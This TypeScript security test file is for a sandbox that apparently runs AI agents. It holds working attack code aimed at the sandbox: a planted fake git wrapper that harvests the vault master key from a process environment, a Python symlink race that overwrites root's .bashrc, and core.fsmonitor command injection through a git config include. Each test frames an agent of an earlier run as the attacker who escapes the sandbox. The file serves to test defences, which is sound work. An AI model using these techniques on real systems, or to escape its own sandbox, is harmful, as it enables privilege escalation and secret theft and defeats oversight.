/**
 * Sandbox review, round 4: what lessor does as the owner, outside the sandbox, around a run.
 *
 * 1. lessor run plans the sandbox's layout (src/sandbox/git-guard.ts) by running `git config …`
 * as the owner, unconfined, found by bare name on the owner's PATH. docs/sandbox.md refuses a bwrap
 * found on PATH inside the project ("an activated virtualenv's bin, a direnv PATH_add … an agent of
 * an earlier run could have replaced it, and lessor runs bwrap as you, unconfined"), and the key
 * command for every PATH directory searched before it; `git` gets no such check. An agent of run 1
 * plants `.venv/bin/git` in the project (on the owner's PATH, an activated virtualenv) and a nested
 * repository whose config mentions `include` (so the guard asks git about it); the owner's next
 * `lessor run` executes the agent's program as the owner, outside any sandbox, before bwrap starts:
 * it reads the lessor home (lessor.toml, the vault database) and can write ~/.bashrc.
 *
 * 2. Another local user who owns the project directory (a shared checkout, /srv/app of a deploy user,
 * a colleague's repository) against `lessor run` started there by the vault's owner (root here).
 *
 * After the run, checkGitAfterRun (src/sandbox/git-guard.ts) moves every entry of `.git/worktrees`
 * that was not there before into `.git/worktrees.lessor-quarantine/NAME`: it makes that directory
 * (quarantineDir: mkdir), then renames entry after entry into it BY PATH. `.git` belongs to the other
 * user, who can rename lessor's fresh quarantine directory away and put a symbolic link of their own
 * in its place between the mkdir and the renames: the owner's lessor then renames files of the
 * attacker's choosing (name and content) into any directory on the same filesystem, replacing what is
 * there — here a root-only 0700 directory holding root's `.bashrc`.
 *
 * Real parts: the built CLI, real bwrap, git, user nobody (setpriv --reuid=65534) racing from outside.
 * Expected (the guarantee): nothing of nobody's ever lands in the owner's private directory.
 *
 * 3. The git guard runs `git config` with chooseGit's pick, or /usr/bin/git when no git on PATH
 * qualifies; when that one could not run, configValues/includePaths answered [] and the includes of the
 * repository's config were not guarded (fail open); now the run is refused. Setup: the owner's only git is in a directory
 * another group can write (programTrustProblem refuses it: chooseGit returns null), and there is no
 * /usr/bin/git (hidden by a bind mount in a private mount namespace: only this test's process sees
 * it). The owner's .git/config includes ../shared.gitconfig, a file in the project: the agent may
 * write core.fsmonitor there, which the owner's git (the one on PATH) runs after the run, unconfined.
 * Real git, real config files, planLayout (what lessor run mounts). Root only (unshare -m).
 *
 * 4. A git that nobody else can change but that fails run from `/` (a version manager's shim with no
 * global version) was chosen, and its failures read as "no includes": now a git must answer there.
 */
import { randomBytes } from "node:crypto";
import { chmodSync, chownSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, statSync, writeFileSync } from "node:fs";
import { after, test } from "node:test";
import { tmpdir } from "node:os";
import { join } from "node:path";
import assert from "node:assert/strict";
import { ATTACKERS_POLICY, HAVE_BWRAP, gitInit, makeOwner, runAgent } from "./run-harness.js";
import { spawn, spawnSync } from "node:child_process";
import { BIN } from "./cli-harness.js";
import { fileURLToPath } from "node:url";

/** Prints planLayout's lists in a process of its own (test/fixtures/plan-layout.ts). */
const inner = fileURLToPath(new URL("./fixtures/plan-layout.ts", import.meta.url));

const root = mkdtempSync(join(tmpdir(), "lessor-sbx-gitpath-"));
process.on("exit", () => rmSync(root, { recursive: true, force: true }));

test("an agent's git on the owner's PATH (in the project) is never run by lessor as the owner", { skip: !HAVE_BWRAP && "no bwrap" }, async () => {
  const o = await makeOwner({ root, name: "o", masterKey: randomBytes(32).toString("hex"), policy: ATTACKERS_POLICY, secrets: [{ name: "granted", value: "v-1" }] });
  gitInit(o.project);
  const loot = join(o.base, "loot"); // outside the project and the sandbox: only the owner can write here
  // The owner works in an activated virtualenv of the project (the case docs/sandbox.md names for bwrap).
  const env = { ...o.env, PATH: `${join(o.project, ".venv", "bin")}:/usr/bin:/bin`, VIRTUAL_ENV: join(o.project, ".venv") };
  const plant = [
    "mkdir -p .venv/bin sub/.git",
    `printf '#!/bin/sh\\nls -a ${o.lessorHome} > ${loot}\\ntr \"\\\\000\" \"\\\\n\" < /proc/$PPID/environ | grep ^LESSOR_MASTER_KEY >> ${loot}\\nexec /usr/bin/git "$@"\\n' > .venv/bin/git`,
    "chmod 755 .venv/bin/git",
    // A nested repository whose config names an include: the guard asks git for its include paths.
    "printf '[core]\\n\\tbare = false\\n[include]\\n\\tpath = x.inc\\n' > sub/.git/config",
    "echo planted",
  ].join(" && ");
  const r1 = await runAgent(o.project, env, "attacker", [], plant);
  assert.equal(r1.code, 0, r1.stderr);
  assert.ok(!existsSync(loot), "nothing ran outside the sandbox during run 1");
  // The owner's next run, whatever its command.
  const r2 = await runAgent(o.project, env, "attacker", [], "true");
  const got = existsSync(loot) ? readFileSync(loot, "utf8") : "";
  assert.equal(got, "", `lessor ran the agent's .venv/bin/git as the owner, outside the sandbox; it read the lessor home:\n${got.slice(0, 400)}\n(run 2 exit ${r2.code}: ${r2.stderr.slice(0, 300)})`);
});

const NOBODY = 65534;
const isRoot = process.getuid?.() === 0;
const tools = ["setpriv", "bwrap", "git", "python3"].every((t) => spawnSync("sh", ["-c", `command -v ${t}`]).status === 0);
const SKIP = !isRoot ? "needs root to act as nobody" : !tools ? "needs setpriv, bwrap, git and python3" : false;

const RACER = String.raw`
import os, sys, time, stat
proj, target, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
wt = os.path.join(proj, ".git", "worktrees")
q = os.path.join(proj, ".git", "worktrees.lessor-quarantine")
def bwrap_running():
    for p in os.listdir("/proc"):
        if not p.isdigit(): continue
        try:
            with open("/proc/%s/comm" % p, "rb") as f:
                if f.read().strip() == b"bwrap": return True
        except Exception: pass
    return False
deadline = time.time() + 60
since = None
while True:  # the run's own sandbox (not the start-up probe): a bwrap that stays
    if time.time() > deadline: print("no run seen"); sys.exit(1)
    if bwrap_running():
        since = since or time.time()
        if time.time() - since > 0.7: break
    else: since = None
    time.sleep(0.02)
# New entries in .git/worktrees, which is nobody's: names sorting before the payload's pad the loop.
for i in range(n):
    with open(os.path.join(wt, "-%05d" % i), "w") as f: f.write("x")
with open(os.path.join(wt, ".bashrc"), "w") as f: f.write("echo PWNED by uid %d\n" % os.getuid())
print("planted", flush=True)
while time.time() < deadline:
    try: st = os.lstat(q)
    except FileNotFoundError: continue
    if stat.S_ISDIR(st.st_mode) and st.st_uid != os.getuid():
        os.rename(q, q + ".old")      # nobody owns .git: lessor's fresh directory is moved away...
        os.symlink(target, q)         # ...and a link of nobody's takes its name
        print("swapped", flush=True); sys.exit(0)
print("timeout"); sys.exit(3)
`;

let ROOT = "";
after(() => {
  if (ROOT) rmSync(ROOT, { recursive: true, force: true });
});

test(
  "attack: lessor run in a project another user owns: that user redirects the after-run quarantine of .git/worktrees and has the owner's lessor replace a file in the owner's private directory (the run is refused)",
  { skip: SKIP, timeout: 120_000 },
  async () => {
    ROOT = mkdtempSync("/tmp/lessor-rev-gg-");
    chmodSync(ROOT, 0o755);
    const home = join(ROOT, "home");
    const env = { ...process.env, LESSOR_HOME: home, NODE_EXTRA_CA_CERTS: "" };
    delete (env as Record<string, string | undefined>).NODE_EXTRA_CA_CERTS;
    const init = spawnSync("node", [BIN, "init"], { env, encoding: "utf8" });
    assert.equal(init.status, 0, init.stderr);

    // The owner's (root's) private directory, with a file of its own in it.
    const victim = join(ROOT, "victim");
    mkdirSync(victim, { mode: 0o700 });
    writeFileSync(join(victim, ".bashrc"), "# root's own\n", { mode: 0o644 });

    // The other user's project: a git repository of theirs.
    const proj = join(ROOT, "proj");
    mkdirSync(proj, { mode: 0o755 });
    chownSync(proj, NOBODY, NOBODY);
    const asNobody = (cmd: string[]): void => {
      const r = spawnSync("setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", ...cmd], { env: { PATH: "/usr/bin:/bin", HOME: proj }, encoding: "utf8" });
      assert.equal(r.status, 0, `${cmd.join(" ")}: ${r.stderr}`);
    };
    asNobody(["git", "-C", proj, "init", "-q"]);
    asNobody(["mkdir", join(proj, ".git/worktrees"), join(proj, ".git/modules")]);
    asNobody(["touch", join(proj, ".git/config.worktree")]);
    const racerFile = join(ROOT, "racer.py");
    writeFileSync(racerFile, RACER, { mode: 0o644 });

    const racer = spawn("setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", racerFile, proj, victim, "3000"], { stdio: ["ignore", "pipe", "pipe"] });
    let racerOut = "";
    racer.stdout.on("data", (d) => (racerOut += d));
    racer.stderr.on("data", (d) => (racerOut += d));
    const racerDone = new Promise<void>((r) => racer.on("close", () => r()));

    const run = spawnSync("node", [BIN, "run", "--agent", "a", "--", "sleep", "3"], { cwd: proj, env, encoding: "utf8", timeout: 90_000 });
    await Promise.race([racerDone, new Promise((r) => setTimeout(r, 5000))]);
    racer.kill();

    assert.notEqual(run.status, 0, "the run was refused");
    assert.match(run.stderr, /\.git belongs to uid 65534: another user could redirect what lessor repairs there/, run.stderr);
    const landed = readdirSync(victim).filter((n) => statSync(join(victim, n)).uid === NOBODY);
    const bashrc = readFileSync(join(victim, ".bashrc"), "utf8");
    assert.ok(
      landed.length === 0 && bashrc === "# root's own\n",
      `nobody's files landed in root's 0700 ${victim}: ${landed.length} (e.g. ${landed.slice(-2).join(", ")}); .bashrc is now ${JSON.stringify(bashrc)}\n` +
        `racer: ${racerOut.trim()}\nlessor run exit ${run.status}; last stderr line: ${run.stderr.trim().split("\n").pop()}`,
    );
  },
);

test("attack: no git on PATH lessor can trust, and no /usr/bin/git: the run is refused rather than leave a config's include in the project writable", { skip: process.getuid?.() !== 0 ? "needs root (unshare -m)" : false }, (t) => {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), "revtoday-git-")));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const home = join(dir, "home");
  const project = join(home, "project");
  mkdirSync(project, { recursive: true });
  chmodSync(dir, 0o755);
  // The owner's git: in a bin another group (staff, gid 50) can write.
  const bin = join(dir, "bin");
  mkdirSync(bin);
  chownSync(bin, 0, 50);
  chmodSync(bin, 0o775);
  copyFileSync("/usr/bin/git", join(bin, "git"));
  chmodSync(join(bin, "git"), 0o755);
  const git = (...a: string[]) => spawnSync(join(bin, "git"), a, { cwd: project, encoding: "utf8", env: { PATH: `${bin}:/bin`, HOME: home, GIT_CONFIG_NOSYSTEM: "1" } });
  assert.equal(git("init", "-q").status, 0);
  assert.equal(git("config", "include.path", "../shared.gitconfig").status, 0);
  writeFileSync(join(project, "shared.gitconfig"), "[user]\n\tname = team\n");
  // Control: the owner's git does read the included file (so the agent's core.fsmonitor there would run).
  writeFileSync(join(project, "shared.gitconfig"), "[user]\n\tname = team\n[core]\n\tfsmonitor = echo AGENT\n");
  assert.equal(git("config", "core.fsmonitor").stdout.trim(), "echo AGENT");
  writeFileSync(join(project, "shared.gitconfig"), "[user]\n\tname = team\n");

  const script = `mount --bind /dev/null /usr/bin/git && exec node --import tsx ${inner} ${project} ${home}`;
  const r = spawnSync("unshare", ["-m", "--propagation", "private", "sh", "-c", script], { encoding: "utf8", env: { ...process.env, PATH: `${bin}:/usr/local/bin:/usr/bin:/bin`, HOME: home } });
  // Guarded without git is not possible (git's own parser reads the includes): refused.
  assert.notEqual(r.status, 0, `planned without a git to read the configs: ${r.stdout}`);
  assert.match(r.stderr, /the git on your PATH \(.*\/bin\/git\) is one the sandbox could write or another user could change.*The command was not started/, r.stderr);
});

function planWith(project: string, home: string, path: string): { readOnly: string[] } {
  const r = spawnSync("node", ["--import", "tsx", inner, project, home], { encoding: "utf8", env: { ...process.env, PATH: path, HOME: home } });
  assert.equal(r.status, 0, r.stderr);
  return JSON.parse(r.stdout) as { readOnly: string[] };
}

test("attack: a git on PATH that cannot answer from / (an asdf/mise shim with no global version) is not the one that reads the configs: the include stays guarded", (t) => {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), "revtoday2-shim-")));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  chmodSync(dir, 0o755);
  const home = join(dir, "home");
  const project = join(home, "project");
  mkdirSync(project, { recursive: true });
  // asdf-style shim, owned by the owner (root here), 0755 in a 0755 directory: chooseGit trusts it.
  const shims = join(home, ".asdf", "shims");
  mkdirSync(shims, { recursive: true });
  writeFileSync(
    join(shims, "git"),
    `#!/bin/sh
# like asdf/mise: the version comes from .tool-versions in the working directory or above
d=$(pwd)
while :; do
  if [ -f "$d/.tool-versions" ]; then exec /usr/bin/git "$@"; fi
  [ "$d" = / ] && break
  d=$(dirname "$d")
done
echo "No version is set for command git" >&2
exit 126
`,
  );
  chmodSync(join(shims, "git"), 0o755);
  writeFileSync(join(project, ".tool-versions"), "git 2.39.2\n");
  const env = { PATH: `${shims}:/usr/bin:/bin`, HOME: home, GIT_CONFIG_NOSYSTEM: "1" };
  const git = (...a: string[]) => spawnSync("git", a, { cwd: project, encoding: "utf8", env });
  assert.equal(git("init", "-q").status, 0);
  assert.equal(git("config", "include.path", "../shared.gitconfig").status, 0);
  // Control: the owner's git (the shim, in the project) reads the included file: core.fsmonitor there would run.
  writeFileSync(join(project, "shared.gitconfig"), "[core]\n\tfsmonitor = echo AGENT\n");
  assert.equal(git("config", "core.fsmonitor").stdout.trim(), "echo AGENT");
  writeFileSync(join(project, "shared.gitconfig"), "[user]\n\tname = team\n");

  const shared = join(project, "shared.gitconfig");
  // Control: with /usr/bin/git first on PATH, the include is guarded (shown read-only).
  assert.ok(planWith(project, home, "/usr/bin:/bin").readOnly.includes(shared), "control: the guard should protect the include");
  // The shim first on PATH (as in the owner's shell): skipped for /usr/bin/git, the include guarded.
  const p = planWith(project, home, `${shims}:/usr/bin:/bin`);
  assert.ok(p.readOnly.includes(shared), `the include ${shared} is writable in the sandbox (read-only: ${JSON.stringify(p.readOnly)})`);
});
